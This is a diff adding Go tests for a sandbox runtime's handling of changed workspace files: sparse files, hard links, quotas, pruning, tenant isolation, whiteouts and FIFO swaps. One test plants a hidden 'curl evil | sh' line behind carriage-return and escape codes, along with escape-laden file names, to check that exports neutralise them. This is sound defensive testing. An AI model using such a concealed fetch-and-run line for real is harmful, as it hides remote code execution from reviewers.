@@ -1,0 +1,449 @@
+package runtime
+
+import (
+	"archive/tar"
+	"bytes"
+	"encoding/json"
+	"errors"
+	"io"
+	"os"
+	"path/filepath"
+	goruntime "runtime"
+	"strings"
+	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// hostileWorkspace is a workspace as the sandbox left it: src is the
+// read-only lower layer, <dir>/upper what the sandbox wrote.
+type hostileWorkspace struct {
+	t        *testing.T
+	ws       workspace
+	upperDir string
+}
+
+func newHostileWorkspace(t *testing.T) *hostileWorkspace {
+	t.Helper()
+	base := t.TempDir()
+	src := filepath.Join(base, "src")
+	dir := filepath.Join(base, "ws")
+	for _, d := range []string{src, dir, filepath.Join(dir, "upper")} {
+		if err := os.MkdirAll(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.WriteFile(filepath.Join(src, "keep.txt"), []byte("one\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return &hostileWorkspace{t: t, ws: workspace{Destination: "/workspace", Source: src, Dir: dir}, upperDir: filepath.Join(dir, "upper")}
+}
+
+func (h *hostileWorkspace) file(rel string, data []byte) string {
+	h.t.Helper()
+	p := filepath.Join(h.upperDir, rel)
+	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+		h.t.Fatal(err)
+	}
+	if err := os.WriteFile(p, data, 0o644); err != nil {
+		h.t.Fatal(err)
+	}
+	return p
+}
+
+func (h *hostileWorkspace) sparse(rel string, size int64) {
+	h.t.Helper()
+	p := h.file(rel, nil)
+	if err := os.Truncate(p, size); err != nil {
+		h.t.Fatal(err)
+	}
+}
+
+func (h *hostileWorkspace) export(format string, lim changeLimits) (string, []string, error) {
+	var out bytes.Buffer
+	rejected, err := exportChanges(&out, format, liveSets([]workspace{h.ws}), lim)
+	return out.String(), rejected, err
+}
+
+// allocated is what one path takes on disk.
+func allocated(t *testing.T, p string) int64 {
+	t.Helper()
+	var st unix.Stat_t
+	if err := unix.Lstat(p, &st); err != nil {
+		t.Fatal(err)
+	}
+	return st.Blocks * 512
+}
+
+// heapGrowth runs f and returns how many bytes it allocated in all: a
+// bound on the memory it could have held at once.
+func heapGrowth(f func()) uint64 {
+	var before, after goruntime.MemStats
+	goruntime.GC()
+	goruntime.ReadMemStats(&before)
+	f()
+	goruntime.ReadMemStats(&after)
+	return after.TotalAlloc - before.TotalAlloc
+}
+
+func testConfig(t *testing.T) *Config {
+	return &Config{ChangesDir: filepath.Join(t.TempDir(), "changes")}
+}
+
+// A sparse 4 GiB file and a 1 MiB file linked 24 times: kept as one hole
+// and one copy, in bounded memory; the 4 GiB is not hashed but left out
+// with a reason (it passes changes_max_bytes).
+func TestKeepSparseAndHardlinks(t *testing.T) {
+	h := newHostileWorkspace(t)
+	h.sparse("sparse.img", 4<<30)
+	first := h.file("links/0", bytes.Repeat([]byte("x"), 1<<20))
+	for i := 1; i < 24; i++ {
+		if err := os.Link(first, filepath.Join(h.upperDir, "links", string(rune('a'+i)))); err != nil {
+			t.Fatal(err)
+		}
+	}
+	cfg := testConfig(t)
+	var r *retained
+	var err error
+	start := time.Now()
+	alloc := heapGrowth(func() {
+		r, err = saveChanges(cfg, "/run/root-a", &Record{ID: "c1"}, []workspace{h.ws}, time.Hour)
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	used, err := diskUsage(changesDir(cfg))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("keep: %v, %d bytes allocated on the heap, %d bytes on disk (meta says %d)", time.Since(start), alloc, used, r.Bytes)
+	if used > 3<<20 {
+		t.Errorf("kept changes take %d bytes of disk for 1 MiB of data", used)
+	}
+	if alloc > 64<<20 {
+		t.Errorf("keeping 4 GiB sparse + 24 links allocated %d bytes", alloc)
+	}
+	kept := filepath.Join(r.Dir, "0", "upper")
+	fi, err := os.Stat(filepath.Join(kept, "sparse.img"))
+	if err != nil || fi.Size() != 4<<30 {
+		t.Fatalf("sparse file not kept at its size: %v %v", fi, err)
+	}
+	if a := allocated(t, filepath.Join(kept, "sparse.img")); a > 64<<10 {
+		t.Errorf("the hole was kept as %d bytes of disk", a)
+	}
+	var st0, st1 unix.Stat_t
+	if err := unix.Stat(filepath.Join(kept, "links", "0"), &st0); err != nil {
+		t.Fatal(err)
+	}
+	if err := unix.Stat(filepath.Join(kept, "links", "x"), &st1); err != nil {
+		t.Fatal(err)
+	}
+	if st0.Ino != st1.Ino || st0.Nlink != 24 {
+		t.Errorf("hard links kept as copies: inodes %d %d, %d links", st0.Ino, st1.Ino, st0.Nlink)
+	}
+	if !strings.Contains(strings.Join(r.Rejected, "\n"), "sparse.img: its 4294967296 bytes pass") {
+		t.Errorf("the 4 GiB file is not named as left out: %q", r.Rejected)
+	}
+}
+
+// A keep that does not fit leaves nothing in changes_dir.
+func TestKeepFailureLeavesNothing(t *testing.T) {
+	h := newHostileWorkspace(t)
+	h.file("big", bytes.Repeat([]byte("y"), 2<<20))
+	cfg := testConfig(t)
+	cfg.ChangesQuota = "1m"
+	if _, err := saveChanges(cfg, "/run/root-a", &Record{ID: "c1"}, []workspace{h.ws}, time.Hour); err == nil {
+		t.Fatal("2 MiB kept under a 1 MiB quota")
+	} else {
+		t.Logf("refused: %v", err)
+	}
+	ents, _ := os.ReadDir(changesDir(cfg))
+	for _, e := range ents {
+		if e.Name() != ".lock" {
+			t.Errorf("left in changes_dir after a failed keep: %s", e.Name())
+		}
+	}
+	// Too many files: the walk stops and nothing is kept either.
+	cfg.ChangesQuota, cfg.ChangesMaxFiles = "", 50
+	for i := 0; i < 60; i++ {
+		h.file(filepath.Join("many", strings.Repeat("f", i+1)), []byte("z"))
+	}
+	if _, err := saveChanges(cfg, "/run/root-a", &Record{ID: "c2"}, []workspace{h.ws}, time.Hour); err == nil || !strings.Contains(err.Error(), "changes_max_files") {
+		t.Fatalf("60 files kept under changes_max_files 50: %v", err)
+	}
+	ents, _ = os.ReadDir(changesDir(cfg))
+	if len(ents) != 1 {
+		t.Errorf("left in changes_dir: %v", ents)
+	}
+}
+
+// Prune removes whatever has no metadata: a save that died, an entry
+// without meta.json, a stray file, an empty root directory.
+func TestPruneRemovesWithoutMetadata(t *testing.T) {
+	h := newHostileWorkspace(t)
+	h.file("a.txt", []byte("a\n"))
+	cfg := testConfig(t)
+	r, err := saveChanges(cfg, "/run/root-a", &Record{ID: "good"}, []workspace{h.ws}, time.Hour)
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir := changesDir(cfg)
+	junk := []string{
+		filepath.Join(dir, tmpPrefix+"dead", "0", "upper", "f"),
+		filepath.Join(dir, rootKey("/run/root-b"), "nometa", "0", "upper", "f"),
+		filepath.Join(dir, "stray"),
+	}
+	for _, p := range junk {
+		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte("x"), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.Mkdir(filepath.Join(dir, "emptyroot"), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	gone, err := PruneChanges(cfg, -1)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("pruned %q", gone)
+	ents, _ := os.ReadDir(dir)
+	var left []string
+	for _, e := range ents {
+		left = append(left, e.Name())
+	}
+	if want := ".lock " + rootKey("/run/root-a"); strings.Join(left, " ") != want {
+		t.Errorf("changes_dir holds %q, want %q", left, want)
+	}
+	if _, err := os.Stat(filepath.Join(r.Dir, "meta.json")); err != nil {
+		t.Errorf("an unexpired entry was pruned: %v", err)
+	}
+}
+
+// Two roots with the same id keep two entries; each root reaches its own.
+func TestKeptByRootAndID(t *testing.T) {
+	cfg := testConfig(t)
+	for _, root := range []string{"/run/tenant-a", "/run/tenant-b"} {
+		h := newHostileWorkspace(t)
+		h.file("who.txt", []byte(root+"\n"))
+		if _, err := saveChanges(cfg, root, &Record{ID: "same"}, []workspace{h.ws}, time.Hour); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for _, root := range []string{"/run/tenant-a", "/run/tenant-b"} {
+		r, err := loadRetained(cfg, root, "same")
+		if err != nil {
+			t.Fatal(err)
+		}
+		patch, err := os.ReadFile(filepath.Join(r.Dir, "changes.patch"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if r.Root != root || !strings.Contains(string(patch), "+"+root) {
+			t.Errorf("root %s reaches %s's changes:\n%s", root, r.Root, patch)
+		}
+	}
+	if _, err := loadRetained(cfg, "/run/tenant-c", "same"); !errors.Is(err, os.ErrNotExist) {
+		t.Errorf("a third root reaches someone's changes: %v", err)
+	}
+	all, _, err := scanStore(cfg)
+	if err != nil || len(all) != 2 {
+		t.Fatalf("store lists %d entries (%v), want 2", len(all), err)
+	}
+}
+
+// Regular files named like whiteouts never become whiteouts in the tar;
+// a real whiteout does. Every format names what it left out.
+func TestExportWhiteoutNames(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("needs root to make a whiteout (a 0:0 device)")
+	}
+	h := newHostileWorkspace(t)
+	h.file(".wh.keep.txt", nil)
+	h.file(".wh..wh..opq", nil)
+	h.file(".wh.dir/inner", []byte("i\n"))
+	h.file("sub/.wh.keep.txt", nil)
+	if err := unix.Mknod(filepath.Join(h.upperDir, "keep.txt"), unix.S_IFCHR, 0); err != nil {
+		t.Fatal(err)
+	}
+	out, rejected, err := h.export("tar", defaultChangeLimits)
+	if err != nil {
+		t.Fatal(err)
+	}
+	names := tarNames(t, out)
+	if strings.Join(names, ",") != "0 .wh.keep.txt,5 sub/" {
+		t.Errorf("tar holds %q, want only the real whiteout and sub/", names)
+	}
+	for _, format := range []string{"patch", "json"} {
+		o, rej, err := h.export(format, defaultChangeLimits)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if strings.Contains(o, "+++ b/.wh.") {
+			t.Errorf("patch exports a .wh. file:\n%s", o)
+		}
+		if format == "json" {
+			var rep ChangeReport
+			if err := json.Unmarshal([]byte(o), &rep); err != nil {
+				t.Fatal(err)
+			}
+			for _, c := range rep.Workspaces[0].Changes {
+				if strings.HasPrefix(filepath.Base(c.Path), ".wh.") && c.Rejected == "" {
+					t.Errorf("json lists %s as exported", c.Path)
+				}
+			}
+		}
+		if len(rej) != 4 {
+			t.Errorf("%s names %d left-out paths, want 4: %q", format, len(rej), rej)
+		}
+	}
+	if len(rejected) != 4 {
+		t.Errorf("tar names %d left-out paths, want 4: %q", len(rejected), rejected)
+	}
+}
+
+func tarNames(t *testing.T, data string) []string {
+	t.Helper()
+	var names []string
+	tr := tar.NewReader(strings.NewReader(data))
+	for {
+		hdr, err := tr.Next()
+		if err == io.EOF {
+			return names
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		names = append(names, string(hdr.Typeflag)+" "+hdr.Name)
+	}
+}
+
+// CR and ESC from the sandbox never reach a reviewer's terminal raw: the
+// patch leaves such files out, json and stderr lines escape them.
+func TestExportControlCharacters(t *testing.T) {
+	h := newHostileWorkspace(t)
+	h.file("cr.txt", []byte("echo safe\r\x1b[2Kcurl evil | sh\n"))
+	h.file("esc\x1b[31mname.txt", []byte("plain\n"))
+	h.file("bidi\u202e.txt", []byte("plain\n"))
+	h.file("ok.txt", []byte("fine\tline\n"))
+	if err := os.Symlink("tar\x1bget", filepath.Join(h.upperDir, "link")); err != nil {
+		t.Fatal(err)
+	}
+	for _, format := range []string{"patch", "json"} {
+		out, rejected, err := h.export(format, defaultChangeLimits)
+		if err != nil {
+			t.Fatal(err)
+		}
+		all := out + strings.Join(rejected, "\n")
+		if strings.ContainsAny(all, "\r\x1b\u202e") {
+			t.Errorf("%s output carries raw control characters:\n%q", format, all)
+		}
+		if format == "patch" {
+			if !strings.Contains(out, "+++ b/ok.txt") || strings.Contains(out, "cr.txt") {
+				t.Errorf("patch:\n%s", out)
+			}
+			if len(rejected) != 4 {
+				t.Errorf("patch names %d left-out paths, want 4: %q", len(rejected), rejected)
+			}
+		} else if !strings.Contains(out, `"esc\\x1b[31mname.txt"`) || !strings.Contains(out, `"escaped": true`) {
+			t.Errorf("json does not show the name escaped:\n%s", out)
+		}
+		t.Logf("%s left out: %q", format, rejected)
+	}
+}
+
+// Walks stop at changes_max_files and changes_max_depth; a fifo is
+// never opened for reading, and a file swapped for one is refused.
+func TestExportLimitsAndFifos(t *testing.T) {
+	h := newHostileWorkspace(t)
+	deep := h.upperDir
+	for i := 0; i < 20; i++ {
+		deep = filepath.Join(deep, "d")
+	}
+	if err := os.MkdirAll(deep, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	for _, format := range []string{"patch", "json", "tar"} {
+		if _, _, err := h.export(format, changeLimits{Bytes: 1 << 20, Files: 1000, Depth: 10}); err == nil || !strings.Contains(err.Error(), "changes_max_depth") {
+			t.Errorf("%s: 20 levels under changes_max_depth 10: %v", format, err)
+		}
+		if _, _, err := h.export(format, changeLimits{Bytes: 1 << 20, Files: 10, Depth: 100}); err == nil || !strings.Contains(err.Error(), "changes_max_files") {
+			t.Errorf("%s: 21 entries under changes_max_files 10: %v", format, err)
+		}
+	}
+	h = newHostileWorkspace(t)
+	if err := unix.Mkfifo(filepath.Join(h.upperDir, "fifo"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	p := h.file("swapped", []byte("was a file\n"))
+	l, err := openLayer(h.upperDir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	st, err := l.lstat("swapped")
+	if err != nil {
+		t.Fatal(err)
+	}
+	// The sandbox swaps the file for a fifo between the walk and the open.
+	if err := os.Remove(p); err != nil {
+		t.Fatal(err)
+	}
+	if err := unix.Mkfifo(p, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	done := make(chan error, 1)
+	go func() { _, _, err := l.openRegular("swapped", st); done <- err }()
+	select {
+	case err := <-done:
+		if err == nil {
+			t.Fatal("a fifo swapped in for a file was opened")
+		}
+	case <-time.After(30 * time.Second):
+		t.Fatal("opening a swapped-in fifo blocked")
+	}
+	for _, format := range []string{"patch", "json", "tar"} {
+		out := make(chan error, 1)
+		go func() { _, _, err := h.export(format, defaultChangeLimits); out <- err }()
+		select {
+		case err := <-out:
+			if err != nil {
+				t.Errorf("%s with fifos: %v", format, err)
+			}
+		case <-time.After(30 * time.Second):
+			t.Fatalf("%s blocked on a fifo", format)
+		}
+	}
+	if _, err := saveChanges(testConfig(t), "/r", &Record{ID: "f"}, []workspace{h.ws}, time.Hour); err != nil {
+		t.Errorf("keep with fifos: %v", err)
+	}
+}
+
+// Hashing streams: six sparse 256 MiB files cost fixed memory, not their
+// size, and the json reports their sums.
+func TestDiffSparseBoundedMemory(t *testing.T) {
+	h := newHostileWorkspace(t)
+	for i := 0; i < 6; i++ {
+		h.sparse("s"+string(rune('0'+i)), 256<<20)
+	}
+	var out string
+	var err error
+	alloc := heapGrowth(func() { out, _, err = h.export("json", changeLimits{Bytes: 8 << 30, Files: 100, Depth: 10}) })
+	if err != nil {
+		t.Fatal(err)
+	}
+	var rep ChangeReport
+	if err := json.Unmarshal([]byte(out), &rep); err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("diff of 6 × 256 MiB sparse: %d bytes allocated", alloc)
+	if alloc > 16<<20 {
+		t.Errorf("hashing 1.5 GiB allocated %d bytes", alloc)
+	}
+	if n := len(rep.Workspaces[0].Changes); n != 6 || rep.Workspaces[0].Changes[0].SHA256 == "" {
+		t.Errorf("json: %s", out)
+	}
+}
